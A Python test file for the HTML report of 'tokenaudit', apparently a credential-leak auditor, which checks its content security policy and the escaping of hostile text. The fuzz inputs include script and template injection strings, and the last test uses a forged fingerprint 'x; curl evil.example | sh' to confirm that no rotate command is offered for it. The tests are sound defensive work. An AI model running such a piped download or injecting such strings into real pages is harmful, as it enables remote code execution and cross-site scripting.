"""The page as a file: one policy that allows nothing but its own style and script, and every text escaped."""

from __future__ import annotations

import base64
import hashlib
import re
from dataclasses import replace
from html.parser import HTMLParser

from hypothesis import given, settings
from hypothesis import strategies as st

from tests.support import reports
from tests.support.mint import Mint
from tokenaudit import model
from tokenaudit.map_text import map_text
from tokenaudit.model import Severity
from tokenaudit.report import render
from tokenaudit.report.html.credential_view import diff
from tokenaudit.secret import Secret

OURS = {"credential", "active", "write", "over", "trusted-publisher", "needed", "high", "tokenaudit/report/1"}


class Tags(HTMLParser):
    """Collects the elements of a page with their attributes' names."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.seen: list[tuple[str, tuple[str, ...]]] = []
        self.feed(page)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.seen.append((tag, tuple(name for name, _ in attrs)))


def a_leak() -> model.Report:
    return reports.leaked(Secret(Mint(3).user_token()))


def test_the_policy_names_exactly_the_style_and_the_script_of_the_page() -> None:
    page = render(a_leak(), "html")
    policy = re.search(r'Content-Security-Policy" content="([^"]+)"', page)
    assert policy is not None
    assert "default-src &#39;none&#39;" in policy.group(1)
    assert "unsafe" not in policy.group(1)
    for tag in ("style", "script"):
        text = re.findall(f"<{tag}>(.*?)</{tag}>", page, re.DOTALL)
        assert len(text) == 1
        assert base64.b64encode(hashlib.sha256(text[0].encode()).digest()).decode() in policy.group(1)


def test_nothing_is_loaded_from_anywhere() -> None:
    tags = Tags(render(reports.breach(20, 5), "html")).seen
    assert not {"img", "link", "iframe", "object", "embed", "video", "audio", "base"} & {tag for tag, _ in tags}
    assert not any("src" in names or "style" in names for _, names in tags)


@settings(max_examples=20, deadline=None)
@given(
    st.one_of(
        st.text(st.characters(), max_size=20),
        st.text(st.sampled_from(list("<>\"'&=/ `{}%#-!")), max_size=20),
        st.sampled_from(["{{ 7*7 }}", "{% raw %}", "</style><script>", "<!--", "]]>", "' onx='"]),
    )
)
def test_no_text_makes_markup(hostile: str) -> None:
    """A page whose texts are hostile has element for element and attribute for attribute what the tame one has."""
    kept = {*OURS, a_leak().credentials[0].fingerprint}
    tame = map_text(a_leak(), lambda text: text if text in kept else f"{text}x")
    nasty = map_text(a_leak(), lambda text: text if text in kept else f"{text}x{hostile}")
    # A patch is shown line by line, so that line breaks in it are no breach; backticks mark code, which does nothing.
    assert _without_code(nasty) == _without_code(tame)
    page = render(nasty, "html")
    page.encode()
    assert not re.search("[\x00-\x09\x0b-\x1f\x7f-\x9f\u200b-\u200f\u2028-\u202e\u2066-\u2069]", page)


def _without_code(report: model.Report) -> list[tuple[str, tuple[str, ...]]]:
    return [element for element in Tags(_without_patch(report)).seen if element != ("code", ())]


def _without_patch(report: model.Report) -> str:
    credential = report.credentials[0]
    assert credential.recommendation is not None
    bare = replace(credential, recommendation=replace(credential.recommendation, patch=None))
    return render(replace(report, credentials=(bare,)), "html")


def test_the_rotation_of_a_credential_is_shown_where_it_is_known() -> None:
    report = a_leak()
    page = render(
        report, "html", rotation={report.credentials[0].fingerprint: "replacement stored, old one not revoked"}
    )
    assert "replacement stored, old one not revoked" in page


def test_the_reason_behind_a_rule_is_shown_where_the_reference_is_given() -> None:
    rule = model.Rule(
        "ci-token-in-argv", "Token in argv", Severity.HIGH, "Every process sees it.", "Use env.", "x", "y"
    )
    assert "Every process sees it." in render(a_leak(), "html", rules={rule.id: rule})


def test_a_clean_page_says_so_and_an_incomplete_one_does_not() -> None:
    assert "<b>Clean: " in render(reports.clean(), "html")
    incomplete = render(reports.incomplete(), "html")
    assert "Clean" not in incomplete
    assert incomplete.count("a shallow clone") == 1


def test_incidents_stand_on_the_timeline() -> None:
    assert "platform-2026-07" in render(reports.breach(5, 3), "html")


def test_lines_of_a_patch_have_their_sorts() -> None:
    patch = "--- a/x\n+++ b/x\n@@ -1 +1 @@\n-old\n+new\n same\n"
    assert [sort for sort, _ in diff(patch)] == ["hunk", "hunk", "hunk", "del", "add", "same"]


def test_a_fingerprint_that_is_none_is_not_offered_as_a_command() -> None:
    report = a_leak()
    assert "Copy rotate command" in render(report, "html")
    forged = replace(report.credentials[0], fingerprint="x; curl evil.example | sh")
    assert "Copy rotate command" not in render(replace(report, credentials=(forged,)), "html")
